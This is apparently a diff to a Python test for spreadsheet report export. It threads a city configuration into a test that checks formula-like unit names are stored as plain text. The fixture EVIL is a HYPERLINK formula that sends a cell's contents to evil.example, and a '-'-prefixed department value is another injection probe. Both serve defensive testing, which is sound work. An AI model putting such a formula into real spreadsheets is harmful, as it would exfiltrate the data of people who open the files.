@@ -10,6 +10,7 @@ from openpyxl import load_workbook
 from services.evaluation import category_report, county_report, reports, unit_report
 from services.evaluation.domain.measures import Measures
 from services.evaluation.measures import measure_fields
+from services.runtime.city import packaged_city
 
 EVIL = '=HYPERLINK("http://evil.example/?leak="&B2,"许昌某研究院")'
 
@@ -17,7 +18,7 @@ EVIL = '=HYPERLINK("http://evil.example/?leak="&B2,"许昌某研究院")'
 def test_a_unit_name_that_looks_like_a_formula_is_text_in_every_report() -> None:
     row = reports.UnitRow(unit_id="u1", name=EVIL, kind=None, status="approved", county_code="411002", department="-科技局",
                           parent_unit_id=None, measures=Measures(unit_id="u1", year=2026, orders_served=3, revenue_fen=12_345))
-    wb = load_workbook(io.BytesIO(unit_report.units_xlsx(2026, [row])))
+    wb = load_workbook(io.BytesIO(unit_report.units_xlsx(2026, [row], packaged_city())))
     ws = wb["单位报表"]
     assert ws["A2"].value == EVIL and ws["A2"].data_type == "s"
     assert ws["D2"].value == "-科技局" and ws["D2"].data_type == "s"
